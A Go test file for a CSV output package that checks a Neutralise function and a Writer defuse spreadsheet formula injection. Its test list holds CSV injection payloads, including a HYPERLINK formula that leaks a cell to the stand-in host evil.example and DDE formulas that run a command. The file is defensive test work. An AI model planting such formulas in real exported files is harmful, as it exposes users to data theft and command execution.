package csvout

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// attacks are the formula-injection payloads (OWASP CSV injection): each
// must reach the file as text, starting with a single quote.
var attacks = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3`,
	`+1`,
	"\t=1+1",
	"\r=1+1",
	`=1+1`,
	`-`,
	`@`,
}

func TestNeutraliseAttacks(t *testing.T) {
	for _, a := range attacks {
		got := Neutralise(a)
		if got != "'"+a {
			t.Errorf("Neutralise(%q) = %q, want it prefixed with a single quote", a, got)
		}
	}
}

func TestNeutraliseLeavesOrdinaryCells(t *testing.T) {
	for _, c := range []string{"", "Mäkinen", "2025-01-02", "123", "a=b", "Koto 1+1", " =1", "'quoted", "Åsa"} {
		if got := Neutralise(c); got != c {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", c, got)
		}
	}
}

// TestWriterFile writes the payloads through the Writer and reads the file
// back as a spreadsheet would: no cell may begin with a formula character.
func TestWriterFile(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write([]string{"name", "note"}); err != nil {
		t.Fatal(err)
	}
	for _, a := range attacks {
		if err := w.Write([]string{"Mäkinen", a}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasPrefix(out, "\ufeffname,note\r\n") {
		t.Fatalf("file starts %q, want the byte order mark and a CRLF header", out[:min(len(out), 20)])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(attacks)+1 {
		t.Fatalf("read %d records, want %d", len(recs), len(attacks)+1)
	}
	for i, rec := range recs[1:] {
		// encoding/csv's reader drops a carriage return inside a field.
		if want := strings.ReplaceAll("'"+attacks[i], "\r", ""); rec[1] != want {
			t.Errorf("cell %d = %q, want %q", i, rec[1], want)
		}
		if strings.ContainsAny(rec[1][:1], "=+-@\t\r") {
			t.Errorf("cell %d begins with a formula character: %q", i, rec[1])
		}
	}
}

// FuzzNeutralise: whatever the cell, the written value never begins with
// a formula character, and a neutralised cell is the original behind one
// quote.
func FuzzNeutralise(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Add("Mäkinen")
	f.Fuzz(func(t *testing.T, cell string) {
		got := Neutralise(cell)
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			t.Fatalf("Neutralise(%q) = %q begins with a formula character", cell, got)
		}
		if got != cell && got != "'"+cell {
			t.Fatalf("Neutralise(%q) = %q changes more than a leading quote", cell, got)
		}
	})
}
